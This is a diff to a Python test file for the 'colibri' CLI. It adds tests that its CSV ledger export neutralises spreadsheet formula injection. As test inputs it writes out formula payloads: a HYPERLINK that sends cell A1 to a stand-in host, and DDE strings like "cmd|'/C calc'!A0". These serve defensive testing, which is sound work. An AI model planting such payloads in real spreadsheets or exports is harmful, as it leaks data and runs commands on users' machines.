@@ -9,8 +9,11 @@ import subprocess
 import sys
 from pathlib import Path
 
+import pytest
+
+from colibri.cli.bulk import FORMULA_LEADS, spreadsheet_cell
 from tests.cli.test_cli import as_json, colibri, error_line, ok
-from tests.helpers import Daemon, on_a_terminal
+from tests.helpers import Daemon, FakeAgent, on_a_terminal, wait_until
 
 
 def _lines(path: Path, *objects: object) -> Path:
@@ -114,7 +117,7 @@ def test_ledger_export_writes_every_row_as_json_lines_or_csv(
     for i in range(3):
         daemon.submit(f"task {i}", capabilities=["x"])
     task = daemon.submit("to cancel")["id"]
-    daemon.call("cancel", task=task, reason="not, \"needed\"\nany more")
+    daemon.call("cancel", task=task, reason='not, "needed"\nany more')
     rows = daemon.call("ledger", limit=1000)["entries"]
     exported = [json.loads(line) for line in ok(colibri("ledger", "export", root=daemon.root))
                 .splitlines()]  # fmt: skip
@@ -150,3 +153,55 @@ def test_ledger_export_writes_every_row_as_json_lines_or_csv(
 
 def as_json_lines(result: subprocess.CompletedProcess[str]) -> list[dict[str, object]]:
     return [json.loads(line) for line in ok(result).splitlines()]
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_text_cell_starting_like_a_formula_is_written_as_text(lead: str) -> None:
+    text = f'{lead}HYPERLINK("http://x.example/?"&A1,"see")'
+    assert spreadsheet_cell(text) == "'" + text
+    assert spreadsheet_cell(" " + text) == " " + text  # only the first character counts
+    assert spreadsheet_cell("plain") == "plain"
+
+
+@pytest.mark.parametrize("number", [-1, -0.5, 0, 3, 2.5e-7, None])
+def test_numbers_and_empty_cells_stay_as_they_are(number: float | None) -> None:
+    assert spreadsheet_cell(number) is number
+
+
+def test_ledger_export_to_csv_writes_no_formula_from_any_column(
+    daemon: Daemon, tmp_path: Path
+) -> None:
+    """A session's error and its cost's model, an operator's cancel reason: every text column a
+    user or a session writes into, written so no spreadsheet runs it; numbers left numbers."""
+    agent = FakeAgent(daemon, "worker", ["python"])
+    try:
+        failed = daemon.submit("fails", capabilities=["python"])["id"]
+        agent.fail(agent.next_assign(), error='=HYPERLINK("http://x.example","open")')
+        done = daemon.submit("costs", capabilities=["python"])["id"]
+        agent.out(agent.next_assign(), cost={"usd": 0.25, "tokens_in": 3, "model": "@SUM(1+1)*cmd"})
+        for n, lead in enumerate(["+", "-", "\t", "\r"]):
+            pending = daemon.submit(f"cancelled {n}", capabilities=["zfs"])["id"]
+            daemon.call("cancel", task=pending, reason=f"{lead}cmd|'/C calc'!A0; =1+1")
+        wait_until(lambda: daemon.task(done)["state"] == "closed")
+    finally:
+        agent.close()
+    out = tmp_path / "ledger.csv"
+    ok(colibri("ledger", "export", "--format", "csv", "--out", str(out), root=daemon.root))
+    exported = out.read_bytes().decode()  # as a spreadsheet reads it: a "\r" is kept
+    table = list(csv.reader(io.StringIO(exported, newline="")))
+    assert len(table) > 8 and table[0][0] == "seq"
+    cells = [cell for row in table[1:] for cell in row]
+    for cell in cells:
+        assert not cell.startswith(FORMULA_LEADS), cell
+    reasons = [row[9] for row in table[1:]]
+    assert any(r.startswith("'=HYPERLINK(") for r in reasons), reasons
+    for lead in ["+", "-", "\t", "\r"]:
+        assert f"'{lead}cmd|'/C calc'!A0; =1+1" in reasons
+    models = [row[15] for row in table[1:] if row[15]]
+    assert models == ["'@SUM(1+1)*cmd"]
+    # Numbers are written bare (a spreadsheet keeps them numbers), text quoted (a spreadsheet
+    # that splits on ";" keeps "…; =1+1" in one cell).
+    assert exported.startswith('"seq","at","task"')
+    seqs = [line.split(",", 1)[0] for line in exported.split("\r\n")[1:] if line[:1].isdigit()]
+    assert len(seqs) == len(table) - 1  # each row starts with its seq, bare
+    assert {row[2] for row in table[1:]} >= {failed, done}
